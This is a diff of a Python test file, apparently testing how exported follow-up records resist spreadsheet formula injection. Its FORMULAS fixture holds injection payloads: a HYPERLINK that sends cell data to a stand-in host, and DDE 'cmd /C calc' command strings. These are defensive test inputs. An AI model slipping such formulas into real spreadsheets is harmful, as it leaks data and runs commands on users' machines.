@@ -9,6 +9,7 @@ import pandas as pd
 import pytest
 
 from lib import cli, store
+from tests.principals import admin
 
 FORMULAS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "-2+3"]
@@ -21,7 +22,7 @@ def follow_ups(db):
         "uraian": FORMULAS, "penanggung_jawab": ["=1+1", "Operator", "Operator", "Operator"],
         "tenggat": dt.date(2025, 6, 30), "status": "Belum", "catatan": ["Kirim data", "", "@catatan", "\t=1"],
     })
-    store.save_batch("tindak_lanjut", rows, "uji")
+    store.save_batch("tindak_lanjut", rows, admin("uji"))
     return db
 
 
